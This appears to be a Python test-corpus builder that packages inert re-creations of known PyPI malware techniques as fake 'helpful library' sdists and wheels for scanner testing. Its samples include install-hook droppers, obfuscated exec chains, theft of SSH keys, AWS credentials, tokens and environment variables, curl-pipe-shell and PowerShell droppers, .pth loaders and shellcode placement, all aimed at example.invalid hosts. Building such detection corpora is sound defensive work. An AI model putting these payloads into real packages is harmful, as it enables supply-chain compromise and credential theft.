"""Build a corpus of INERT re-creations of documented PyPI malware techniques.

Every sample is built in memory as an sdist (``.tar.gz``) and a wheel (``.whl``) and never
executed or installed. Payloads only name hosts under ``example.invalid`` (a name that never
resolves, RFC 6761), and the "stage two" code hidden by the obfuscation samples is itself only
a call to such a URL. The techniques follow public write-ups of real incidents: install hooks
in ``setup.py`` (2017-2024 typosquat waves), base64/zlib/marshal exec chains (W4SP stealer and
its kin), droppers fetching an executable, exfiltration of the environment and SSH/cloud keys,
``.pth`` loaders running at interpreter start (2024), and typosquatted names.

    python -m tests.corpus.scanning.build OUTDIR     # writes every sample's two files
"""

from __future__ import annotations

import base64
import dataclasses
import io
import marshal
import sys
import tarfile
import textwrap
import zipfile
import zlib
from pathlib import Path

URL = "https://example.invalid"
STAGE_TWO = f"import urllib.request\nurllib.request.urlopen('{URL}/stage2')\n"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _zb64(text: str) -> str:
    return base64.b64encode(zlib.compress(text.encode())).decode()


def _marshal_b64(text: str) -> str:
    # Compiling is not running: the code object is only serialized, as the obfuscators do.
    return base64.b64encode(marshal.dumps(compile(text, "<stage2>", "exec"))).decode()


@dataclasses.dataclass(frozen=True)
class Sample:
    name: str  # the project name (some imitate popular projects, as the real ones did)
    technique: str
    payload: str  # Python source of the malicious part
    where: str = "setup"  # setup: in setup.py (sdist) / __init__ (wheel); init: both in __init__
    extra: tuple[tuple[str, str], ...] = ()  # more files (path in package root, text)
    pth: str | None = None  # a .pth file's text, shipped at the top of the wheel and sdist


def _setup_hook(payload: str) -> str:
    """The payload run from an overridden ``install`` command, as most setup.py malware does."""
    body = textwrap.indent(textwrap.dedent(payload).strip(), " " * 8)
    return (
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n\n\n"
        "class PostInstall(install):\n"
        "    def run(self):\n"
        "        install.run(self)\n"
        f"{body}\n\n\n"
    )


SAMPLES: tuple[Sample, ...] = (
    Sample(
        "reqeusts",
        "install hook downloads an executable and runs it",
        f"""
        import os, subprocess, tempfile, urllib.request
        target = os.path.join(tempfile.gettempdir(), "updater")
        urllib.request.urlretrieve("{URL}/updater.bin", target)
        os.chmod(target, 0o755)
        subprocess.Popen([target])
        """,
    ),
    Sample(
        "colourama",
        "exec of base64-decoded code (install hook)",
        f"""
        import base64
        exec(base64.b64decode("{_b64(STAGE_TWO)}"))
        """,
    ),
    Sample(
        "urlib3",
        "exec of zlib+base64 chain (W4SP style)",
        f"""
        import base64, zlib
        exec(zlib.decompress(base64.b64decode("{_zb64(STAGE_TWO * 8)}")))
        """,
    ),
    Sample(
        "pyobf-helper",
        "exec of marshal-loaded bytecode",
        f"""
        import base64, marshal
        exec(marshal.loads(base64.b64decode("{_marshal_b64(STAGE_TWO)}")))
        """,
    ),
    Sample(
        "envsync-tools",
        "exfiltrates the environment to a URL",
        f"""
        import json, os, urllib.request
        data = json.dumps(dict(os.environ)).encode()
        urllib.request.urlopen(urllib.request.Request("{URL}/collect", data=data))
        """,
    ),
    Sample(
        "sshkey-backup",
        "exfiltrates SSH private keys with requests",
        f"""
        import os, requests
        keys = {{}}
        for name in ("id_rsa", "id_ed25519"):
            path = os.path.expanduser("~/.ssh/" + name)
            if os.path.exists(path):
                keys[name] = open(os.path.expanduser("~/.ssh/id_rsa")).read()
        requests.post("{URL}/keys", json=keys)
        """,
    ),
    Sample(
        "aws-cred-check",
        "exfiltrates AWS credentials over a raw socket",
        """
        import os, socket
        creds = open(os.path.expanduser("~/.aws/credentials")).read()
        s = socket.socket()
        s.connect(("collector.example.invalid", 443))
        s.sendall(creds.encode())
        """,
    ),
    Sample(
        "pypirc-sync",
        "steals .pypirc tokens through a helper function",
        f"""
        import os, urllib.request

        def send(blob):
            urllib.request.urlopen("{URL}/t", data=blob)

        send(open(os.path.expanduser("~/.pypirc"), "rb").read())
        """,
    ),
    Sample(
        "win-helper-utils",
        "PowerShell dropper with an encoded command",
        """
        import subprocess
        subprocess.Popen("powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", shell=True)
        """,
    ),
    Sample(
        "python3-dateutil",
        "curl | sh dropper via os.system",
        f"""
        import os
        os.system("curl -fsSL {URL}/install.sh | sh")
        """,
    ),
    Sample(
        "fast-json-pth",
        ".pth loader running base64-decoded code at every interpreter start",
        "",
        where="init",
        pth=f"import base64; exec(base64.b64decode('{_b64(STAGE_TWO)}'))\n",
    ),
    Sample(
        "site-telemetry",
        ".pth loader fetching and running code at interpreter start",
        "",
        where="init",
        pth=f"import urllib.request; exec(urllib.request.urlopen('{URL}/p').read())\n",
    ),
    Sample(
        "beautifulsoup",
        "import-time exec of code downloaded with requests",
        f"""
        import requests
        exec(requests.get("{URL}/payload.py").text)
        """,
        where="init",
    ),
    Sample(
        "chr-loader",
        "exec of a string built from chr() codes",
        f"""
        exec("".join(chr(c) for c in {[ord(ch) for ch in STAGE_TWO]!r}))
        """,
    ),
    Sample(
        "rev-loader",
        "exec of a reversed base64 literal",
        f"""
        import base64
        exec(base64.b64decode("{_b64(STAGE_TWO)[::-1]}"[::-1]))
        """,
    ),
    Sample(
        "dyn-import-loader",
        "exec reached through __import__ to hide the names",
        f"""
        __import__("builtins").exec(__import__("base64").b64decode("{_b64(STAGE_TWO)}"))
        """,
    ),
    Sample(
        "ctypes-shellcode",
        "shellcode decoded and placed in executable memory with ctypes",
        f"""
        import base64, ctypes
        code = base64.b64decode("{base64.b64encode(bytes(range(64))).decode()}")
        buf = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)
        ctypes.memmove(buf, code, len(code))
        """,
    ),
    Sample(
        "discord-token-tool",
        "Discord/browser token stealer posting to a webhook",
        f"""
        import os, re, requests
        root = os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb")
        found = []
        for name in os.listdir(root):
            text = open(os.path.join(root, name), errors="ignore").read()
            found += re.findall(r"[\\w-]{{24}}\\.[\\w-]{{6}}\\.[\\w-]{{27}}", text)
        requests.post("{URL}/api/webhooks/1/x", json={{"content": "\\n".join(found)}})
        """,
    ),
    Sample(
        "dns-beacon",
        "install-time beacon of user and host over DNS",
        """
        import getpass, socket
        socket.gethostbyname(getpass.getuser() + "." + socket.gethostname() + ".example.invalid")
        """,
    ),
    Sample(
        "setup-blob-exec",
        "exec of a large encoded blob defined at module level",
        f"""
        import base64
        BLOB = "{_b64(STAGE_TWO * 40)}"
        exec(base64.b64decode(BLOB))
        """,
    ),
    Sample(
        "shell-dropper-kit",
        "bundled shell script that downloads and runs a payload",
        """
        import subprocess
        subprocess.call(["sh", "scripts/post_install.sh"])
        """,
        extra=(("scripts/post_install.sh", f"#!/bin/sh\ncurl -s {URL}/x | bash\n"),),
    ),
    Sample(
        "requets-toolbelt",
        "typosquat whose import fetches and runs a second stage",
        f"""
        import urllib.request, subprocess
        data = urllib.request.urlopen("{URL}/run.sh").read()
        subprocess.run(["bash", "-c", data])
        """,
        where="init",
    ),
)


def _module(sample: Sample) -> str:
    return sample.name.replace("-", "_")


def _files(sample: Sample, kind: str) -> dict[str, str]:
    """The sample's files relative to the project root (sdist) or the wheel root."""
    module = _module(sample)
    payload = textwrap.dedent(sample.payload).strip() + "\n" if sample.payload else ""
    init = '"""A helpful library."""\n\n__version__ = "1.0.0"\n'
    files: dict[str, str] = {}
    if kind == "sdist":
        setup_call = f'setup(name="{sample.name}", version="1.0.0", packages=["{module}"]'
        if sample.where == "setup" and payload:
            files["setup.py"] = (
                _setup_hook(payload) + setup_call + ', cmdclass={"install": PostInstall})\n'
            )
        else:
            files["setup.py"] = "from setuptools import setup\n\n" + setup_call + ")\n"
        if sample.where == "init":
            init += "\n" + payload
    else:
        init += "\n" + payload  # a wheel runs nothing at install: real samples moved to import
    files[f"{module}/__init__.py"] = init
    for path, text in sample.extra:
        files[path] = text
    if sample.pth:
        files[f"{module}_init.pth"] = sample.pth
    return files


def _metadata(sample: Sample) -> str:
    return (
        f"Metadata-Version: 2.1\nName: {sample.name}\nVersion: 1.0.0\nSummary: A helpful library\n"
    )


def build_sdist(sample: Sample) -> tuple[str, bytes]:
    root = f"{_module(sample)}-1.0.0"
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        files = {"PKG-INFO": _metadata(sample), **_files(sample, "sdist")}
        for path, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{root}/{path}")
            info.size = len(data)
            info.mtime = 1_700_000_000
            archive.addfile(info, io.BytesIO(data))
    return f"{root}.tar.gz", buffer.getvalue()


def build_wheel(sample: Sample) -> tuple[str, bytes]:
    dist_info = f"{_module(sample)}-1.0.0.dist-info"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        files = {
            **_files(sample, "wheel"),
            f"{dist_info}/METADATA": _metadata(sample),
            f"{dist_info}/WHEEL": "Wheel-Version: 1.0\nGenerator: corpus\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        }
        files[f"{dist_info}/RECORD"] = (
            "".join(f"{p},,\n" for p in files) + f"{dist_info}/RECORD,,\n"
        )
        for path, text in files.items():
            archive.writestr(zipfile.ZipInfo(path, (2023, 11, 14, 0, 0, 0)), text)
    return f"{_module(sample)}-1.0.0-py3-none-any.whl", buffer.getvalue()


def build_all() -> list[tuple[Sample, str, bytes]]:
    built = []
    for sample in SAMPLES:
        for builder in (build_sdist, build_wheel):
            filename, data = builder(sample)
            built.append((sample, filename, data))
    return built


def write_corpus(directory: Path) -> list[Path]:
    directory.mkdir(parents=True, exist_ok=True)
    paths = []
    for _sample, filename, data in build_all():
        path = directory / filename
        path.write_bytes(data)
        paths.append(path)
    return paths


if __name__ == "__main__":
    written = write_corpus(Path(sys.argv[1] if len(sys.argv) > 1 else "bench/.cache/corpus"))
    print(f"{len(written)} files written")
